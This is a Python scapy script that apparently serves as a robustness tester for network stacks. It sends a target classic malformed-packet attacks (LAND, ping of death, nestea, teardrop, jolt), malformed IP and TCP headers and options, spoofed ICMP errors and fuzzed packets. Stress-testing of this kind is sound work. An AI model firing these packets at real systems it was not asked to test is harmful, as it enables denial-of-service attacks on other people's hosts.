"""Sends scapy's malformed packets: the attacks that once had names, and fuzzed layers.

usage: scapy_malformed.py DEVICE TARGET SOURCE COUNT
"""

import random
import sys

from scapy.all import (ICMP, IP, TCP, UDP, IPOption_LSRR, IPOption_RR, IPOption_Timestamp, Raw, conf, fragment, fuzz)

import wire

device, target, source, count = sys.argv[1], sys.argv[2], sys.argv[3], int(sys.argv[4])
conf.verb = 0
random.seed(4711)
link = wire.Link(device)


def ip(**more):
    return IP(src=source, dst=target, **more)


def named():
    yield IP(src=target, dst=target) / TCP(sport=80, dport=80, flags="S")  # LAND
    yield from fragment(ip() / ICMP() / Raw(b"x" * 65600), 1400)  # ping of death
    yield ip(id=12, flags="MF") / UDP() / Raw(b"x" * 10)  # nestea
    yield ip(id=12, frag=48) / Raw(b"x" * 116)
    yield ip(id=12, flags="MF") / UDP() / Raw(b"x" * 224)
    yield ip(id=42, flags="MF", proto=17) / Raw(b"x" * 36)  # teardrop
    yield ip(id=42, frag=3, proto=17) / Raw(b"x" * 4)
    yield ip(ihl=2, version=3) / ICMP()  # malformed header
    yield ip(len=20) / TCP(dport=80, flags="S")
    yield ip(ttl=0) / TCP(dport=80, flags="S")
    yield ip(frag=8191, flags="MF") / Raw(b"x" * 800)  # jolt
    for option in (IPOption_LSRR(routers=[target] * 9), IPOption_RR(routers=["0.0.0.0"] * 9), IPOption_Timestamp()):
        yield ip(options=[option]) / TCP(dport=80, flags="S")
    for flags in ("", "F", "SF", "SR", "FSRPAUEC", "SU", "RA"):
        yield ip() / TCP(dport=80, flags=flags, seq=1, ack=1)
    for offset in range(16):
        yield ip() / TCP(dport=80, flags="S", dataofs=offset) / Raw(b"y" * 20)
    for options in ([("MSS", 0)], [("MSS", 1)], [("WScale", 255)], [("Timestamp", (0, 0))] * 3, [(253, b"zz")],
                    [("NOP", None)] * 40):
        yield ip() / TCP(dport=80, flags="S", options=options)
    for kind in range(256):
        yield ip() / ICMP(type=kind, code=kind % 16) / IP(src=target, dst=source) / TCP(sport=80, dport=kind)


def fuzzed():
    for i in range(count):
        upper = [fuzz(TCP(dport=80)), fuzz(TCP()), fuzz(UDP()), fuzz(ICMP())][i % 4]
        yield fuzz(ip(options=[])) / upper if i % 3 else ip() / upper


sent = failed = 0
for packet in [*named(), *fuzzed()]:
    try:
        link.send(bytes(packet))
        sent += 1
    except Exception:  # what scapy itself cannot write
        failed += 1
print(f"{sent} packets")
sys.exit(0 if sent > count / 2 else 1)
